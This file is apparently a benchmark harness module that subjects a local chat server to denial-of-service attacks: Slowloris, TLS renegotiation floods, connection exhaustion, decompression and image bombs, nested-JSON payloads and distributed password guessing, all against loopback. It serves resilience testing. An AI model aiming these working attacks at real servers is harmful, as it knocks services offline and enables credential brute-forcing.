"""What people do to a server that they wish ill, for as long as this program's standard input is held open.

Run as `python -m bench.attackers NAME WEB LINE WEB_TLS LINE_TLS`, with the ports of a chatd on this machine.
It says `ready` when it does its worst, and in the end, as JSON, how often it did what.
"""

import contextlib
import itertools
import json
import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from typing import NamedTuple

from OpenSSL import SSL

from bench.dialects import UPGRADE, frame
from bench.servers import HOST

VICTIM = "victim"
"""The account whose password is guessed."""
_ADDRESS_CONNECTIONS = 450
"""From each address: a little less than a server takes."""
_PATIENCE_SECONDS = 5
_HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
_BODY = b"POST /api/ping HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n"
_ENDLESS_FRAME = b"\x81\xff" + (16 * 2**20 - 1).to_bytes(8) + bytes(4)
"""The head of a text frame of almost 16 MiB, masked with zeros."""
_LONG_FRAME = b"\x81\xfe" + (60_000).to_bytes(2) + bytes(4)
_AYT = b"\xff\xf6"
"""Telnet's question whether anybody is there."""


class Ports(NamedTuple):
    """Of one chatd."""

    web: int
    line: int
    web_tls: int
    line_tls: int


class Attacker:
    """Connections from as many addresses as are wanted, all of them loopback's, and what was done."""

    def __init__(self, ports: Ports) -> None:
        self.ports = ports
        self.done: Counter[str] = Counter()

    def open(self, port: int, address: int) -> socket.socket | None:
        """A connection from one of our addresses, if the server takes it at all."""
        connection = socket.socket()
        connection.settimeout(_PATIENCE_SECONDS)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            connection.bind((f"127.0.{1 + address // 250}.{1 + address % 250}", 0))
            connection.connect((HOST, port))
        except OSError:
            connection.close()
            self.done["connections refused"] += 1
            return None
        self.done["connections"] += 1
        return connection

    def upgraded(self, address: int) -> socket.socket | None:
        """A WebSocket, if the server gives us one."""
        connection = self.open(self.ports.web, address)
        if connection is not None and not _upgrade(connection, self.ports.web):
            self.done["handshakes refused"] += 1
            connection.close()
            return None
        return connection


def _upgrade(connection: socket.socket, port: int) -> bool:
    try:
        connection.sendall(UPGRADE.format(path="/ws", host=HOST, port=port).encode())
        return connection.recv(12) == b"HTTP/1.1 101"
    except OSError:
        return False


class Held:
    """Connections that are kept as long as the server keeps them, and opened again when it does not."""

    def __init__(self, attacker: Attacker, opener: Callable[[int], socket.socket | None], count: int) -> None:
        """`opener` opens that of a place."""
        self._done = attacker.done
        self._opener = opener
        self._count = count
        self._open: dict[int, socket.socket] = {}

    def keep(self, drip: Callable[[int], bytes]) -> None:
        """Send what `drip` gives by place (nothing, or a byte) on each, and open what is missing."""
        for place in range(self._count):
            connection = self._open.get(place)
            if connection is None:
                connection = self._opener(place)
                if connection is not None:
                    connection.setblocking(False)
                    self._open[place] = connection
            elif not _still_there(connection, drip(place)):
                self._open.pop(place).close()
                self._done["connections ended by the server"] += 1
        self._done["connections held"] = len(self._open)


def _still_there(connection: socket.socket, byte: bytes) -> bool:
    try:
        if byte:
            connection.send(byte)
        while data := connection.recv(65_536):
            del data
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


def _hold(
    attacker: Attacker, kinds: list[tuple[int, bytes]], count: int, drips: bool = True
) -> Iterator[None]:
    """`count` connections of these kinds (port, and how they begin), a byte a second on every other one."""

    def opener(place: int) -> socket.socket | None:
        port, beginning = kinds[place % len(kinds)]
        connection = attacker.open(port, place // _ADDRESS_CONNECTIONS)
        if connection is not None and beginning:
            with contextlib.suppress(OSError):
                connection.sendall(beginning)
        return connection

    held = Held(attacker, opener, count)
    yield from _every_second(lambda: held.keep(lambda place: b"x" if drips and place // 2 % 2 else b""))


def _every_second(work: Callable[[], None]) -> Iterator[None]:
    while True:
        began = time.monotonic()
        work()
        yield
        while (left := began + 1 - time.monotonic()) > 0:
            time.sleep(min(left, 0.1))
            yield


# Connections that are held.


def slow_requests(attacker: Attacker) -> Iterator[None]:
    """Slowloris: heads and bodies of requests that never end."""
    yield from _hold(attacker, [(attacker.ports.web, _HEAD), (attacker.ports.web, _BODY)], 1_800)


def slow_lines(attacker: Attacker) -> Iterator[None]:
    """Terminals that say nothing, or a line that never ends."""
    yield from _hold(attacker, [(attacker.ports.line, b"")], 1_800)


def slow_websockets(attacker: Attacker) -> Iterator[None]:
    """WebSockets that say nothing, or a frame that never ends."""

    def opener(place: int) -> socket.socket | None:
        connection = attacker.upgraded(place // 300)
        if connection is not None and place // 2 % 2:
            with contextlib.suppress(OSError):
                connection.sendall(_ENDLESS_FRAME)
        return connection

    held = Held(attacker, opener, 1_200)
    yield from _every_second(lambda: held.keep(lambda place: b"x" if place // 2 % 2 else b""))


def one_address(attacker: Attacker) -> Iterator[None]:
    """10,000 connections from one address, on both frontends, opened again when they are refused."""

    def opener(place: int) -> socket.socket | None:
        return attacker.open(attacker.ports[place % 2], 0)

    held = Held(attacker, opener, 10_000)
    yield from _every_second(lambda: held.keep(lambda place: b""))


def half_open_tls(attacker: Attacker) -> Iterator[None]:
    """The beginning of a TLS handshake, and then a byte a second."""
    beginning = _hello()[:40]
    yield from _hold(attacker, [(port, beginning) for port in attacker.ports[2:]], 1_800)


def _hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    shy = _trusting().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        shy.do_handshake()
    return outgoing.read()


def _trusting() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


# Handshakes.


def websocket_handshakes(attacker: Attacker) -> Iterator[None]:
    """WebSockets that are opened, 16 at a time and from many addresses, and dropped at once."""
    request = UPGRADE.format(path="/ws", host=HOST, port=attacker.ports.web).encode()
    addresses = itertools.cycle(range(120))
    while True:
        opened = [attacker.open(attacker.ports.web, next(addresses)) for _ in range(16)]
        for connection in filter(None, opened):
            with contextlib.suppress(OSError):
                connection.sendall(request)
        for connection in filter(None, opened):
            with contextlib.suppress(OSError):
                attacker.done["handshakes"] += connection.recv(12) == b"HTTP/1.1 101"
            connection.close()
        yield


def tls_handshakes(attacker: Attacker) -> Iterator[None]:
    """Whole TLS handshakes, 8 at a time, and nothing after."""
    context, addresses = _trusting(), itertools.cycle(range(120))
    ports = itertools.cycle(attacker.ports[2:])
    while True:
        opened = [attacker.open(next(ports), next(addresses)) for _ in range(8)]
        secured = [
            context.wrap_socket(connection, do_handshake_on_connect=False, server_hostname="localhost")
            for connection in filter(None, opened)
        ]
        for connection in secured:
            connection.setblocking(False)
            with contextlib.suppress(OSError):
                connection.do_handshake()
        for connection in secured:
            connection.settimeout(_PATIENCE_SECONDS)
            with contextlib.suppress(OSError):
                connection.do_handshake()
                attacker.done["TLS handshakes"] += 1
            connection.close()
        yield


def tls_renegotiations(attacker: Attacker) -> Iterator[None]:
    """TLS 1.2 connections whose client wants a new handshake, again and again."""
    context = SSL.Context(SSL.TLS_CLIENT_METHOD)
    context.set_max_proto_version(SSL.TLS1_2_VERSION)
    addresses = itertools.cycle(range(120))
    while True:
        plain = attacker.open(attacker.ports.line_tls, next(addresses))
        if plain is not None:
            plain.settimeout(None)
            secured = SSL.Connection(context, plain)
            secured.set_connect_state()
            with contextlib.suppress(SSL.Error):
                secured.do_handshake()
                for _ in range(100):
                    secured.renegotiate()
                    secured.do_handshake()
                    attacker.done["handshakes anew"] += 1
            attacker.done["connections ended by the server"] += 1
            plain.close()
        yield


# Floods on open connections.


def _flood(
    attacker: Attacker, connections: list[tuple[socket.socket, bytes, bool]], what: str, most: int = 1
) -> Iterator[None]:
    """Send each its bytes again and again, as fast as it takes them; the flag says whether it also reads."""
    for connection, _, _ in connections:
        connection.setblocking(False)
    places = dict.fromkeys(range(len(connections)), 0)
    while True:
        for place, at in list(places.items()):
            connection, data, reads = connections[place]
            try:
                sent = connection.send(data[at : at + most])
                attacker.done[what] += sent
                places[place] = (at + sent) % len(data)
            except BlockingIOError:
                pass
            except OSError:
                del places[place]
                attacker.done["connections ended by the server"] += 1
                continue
            with contextlib.suppress(OSError):
                while reads and len(connection.recv(65_536)) == 65_536:
                    pass
        attacker.done["connections held"] = len(places)
        if not places:
            time.sleep(0.1)
        yield


def bytes_one_by_one(attacker: Attacker) -> Iterator[None]:
    """Frames and lines as long as may be, a byte in each segment, as fast as they go."""
    frames = [(connection, _LONG_FRAME + b"x" * 60_000, True) for connection in _websockets(attacker, 25)]
    opened = (attacker.open(attacker.ports.line, 1 + place) for place in range(25))
    lines = [(connection, b"x" * 16_000 + b"\n", True) for connection in filter(None, opened)]
    yield from _flood(attacker, frames + lines, "bytes")


def _websockets(attacker: Attacker, count: int) -> list[socket.socket]:
    return [one for place in range(count) if (one := attacker.upgraded(1 + place)) is not None]


def pings(attacker: Attacker) -> Iterator[None]:
    """Pings of WebSocket, of JSON and of telnet, without a pause; every other one reads no answer."""
    kinds = [frame(b"p" * 125, 0x89) * 400, frame(b'{"type":"ping"}') * 2_000]
    flooding = [
        (connection, kinds[place // 2 % 2], place % 2 == 0)
        for place, connection in enumerate(_websockets(attacker, 20))
    ]
    opened = (attacker.open(attacker.ports.line, 30 + place) for place in range(10))
    flooding += [(one, _AYT * 20_000, place % 2 == 0) for place, one in enumerate(filter(None, opened))]
    yield from _flood(attacker, flooding, "bytes", 65_536)


def commands(attacker: Attacker) -> Iterator[None]:
    """Guests who ask for what is long, without a pause, and read no faster than they must."""
    flooding = []
    asked = [b"/help\n", b"/who\n", b"/history 200\n", b"/search x\n", b"/rooms\n", b"/nonsense\n"]
    for place, line in enumerate(asked * 2):
        connection = attacker.open(attacker.ports.line, 50 + place)
        if connection is not None:
            connection.sendall(f"/nick asker{place}\n".encode())
            flooding.append((connection, line * (65_536 // len(line)), place % 2 == 0))
    wanted = [{"type": "history", "room": "lobby", "limit": 200}, {"type": "who", "room": "lobby"}]
    for place, connection in enumerate(_websockets(attacker, 8)):
        connection.sendall(frame(json.dumps({"type": "login", "name": f"wanter{place}"}).encode()))
        command = frame(json.dumps(wanted[place % 2]).encode())
        flooding.append((connection, command * (65_536 // len(command)), place // 2 % 2 == 0))
    yield from _flood(attacker, flooding, "bytes", 65_536)


# Single blows.


def bombs(attacker: Attacker) -> Iterator[None]:
    """What is small and would become large: deflated frames and bodies, nested JSON, an image of 60,000²."""
    zeros = zlib.compress(bytes(10 * 2**20), 9)
    nested = b"[" * 30_000
    deflated = b"\xc1\xfe" + len(zeros).to_bytes(2) + bytes(4) + zeros
    websocket = [deflated, frame(b'{"type":"say","room":' + nested)]
    port, image, cookies = attacker.ports.web, _huge_image(), dict[int, str]()
    for address in itertools.cycle(range(1, 120)):
        for blow in websocket:
            connection = attacker.upgraded(address)
            if connection is not None:
                _strike(attacker, connection, blow)
        if address not in cookies:
            cookies[address] = _guest_cookie(attacker, address)
        for blow in (
            _post(port, "say", zeros, "Content-Encoding: deflate"),
            _post(port, "say", nested),
            _post(port, "files?room=lobby&name=x.png", image, f"Cookie: {cookies[address]}"),
        ):
            connection = attacker.open(port, address)
            if connection is not None:
                _strike(attacker, connection, blow)
        yield


def _strike(attacker: Attacker, connection: socket.socket, blow: bytes) -> None:
    attacker.done["blows"] += 1
    with contextlib.suppress(OSError):
        connection.sendall(blow)
        connection.recv(65_536)
    connection.close()


def _guest_cookie(attacker: Attacker, address: int) -> str:
    """Of a new guest; empty where the server gives none."""
    connection = attacker.open(attacker.ports.web, address)
    if connection is None:
        return ""
    body = json.dumps({"name": f"bomber{random.randrange(10**9)}"}).encode()
    answer = b""
    with contextlib.suppress(OSError), connection:
        connection.sendall(_post(attacker.ports.web, "guest", body))
        answer = connection.recv(65_536)
    _, _, cookie = answer.partition(b"\r\nSet-Cookie: ")
    return cookie.partition(b";")[0].decode()


def _post(port: int, name: str, body: bytes, *more: str) -> bytes:
    """As a page of the server's own sends it."""
    lines = [
        f"POST /api/{name} HTTP/1.1",
        f"Host: localhost:{port}",
        f"Origin: http://localhost:{port}",
        "Content-Type: application/json",
        f"Content-Length: {len(body)}",
        *more,
    ]
    return "\r\n".join([*lines, "", ""]).encode() + body


def _huge_image() -> bytes:
    """A PNG of 60,000 × 60,000 pixels in 4 MB, all of one colour (RFC 2083)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(2**20)) for _ in range(64)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def nonsense(attacker: Attacker) -> Iterator[None]:
    """Random bytes on every port, and to a WebSocket."""
    dice = random.Random(7)
    for address in itertools.cycle(range(120)):
        opened = [*(attacker.open(port, address) for port in attacker.ports), attacker.upgraded(address)]
        for connection in filter(None, opened):
            with contextlib.suppress(OSError):
                connection.sendall(dice.randbytes(4_096))
                connection.recv(1)
            connection.close()
        yield


def guesses(attacker: Attacker) -> Iterator[None]:
    """Passwords for one account, guessed from 200 addresses, 40 at a time."""
    addresses = itertools.cycle(range(200))
    for number in itertools.count():
        opened = [attacker.open(attacker.ports.web, next(addresses)) for _ in range(40)]
        for connection in filter(None, opened):
            body = json.dumps({"name": VICTIM, "password": f"wrong guess {number}"}).encode()
            with contextlib.suppress(OSError):
                connection.sendall(_post(attacker.ports.web, "login", body))
        for connection in filter(None, opened):
            with contextlib.suppress(OSError):
                status = connection.recv(65_536)[9:12].decode()
                attacker.done[f"guesses answered with {status}"] += 1
            connection.close()
        yield


ATTACKS: dict[str, Callable[[Attacker], Iterator[None]]] = {
    attack.__name__: attack
    for attack in (
        slow_requests,
        slow_websockets,
        slow_lines,
        one_address,
        websocket_handshakes,
        half_open_tls,
        tls_handshakes,
        tls_renegotiations,
        bytes_one_by_one,
        pings,
        commands,
        bombs,
        nonsense,
        guesses,
    )
}
"""By name; each generator attacks a little between two of its values, and for ever."""


def main() -> None:
    """Attack until standard input ends."""
    name, *ports = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.nice(5)  # who is measured is on this machine, too
    attacker = Attacker(Ports(*map(int, ports)))
    for number, _ in enumerate(ATTACKS[name](attacker)):
        if number == 0:
            print("ready", flush=True)
        if select.select([sys.stdin], [], [], 0)[0]:
            break
    print(json.dumps(attacker.done))


if __name__ == "__main__":
    main()
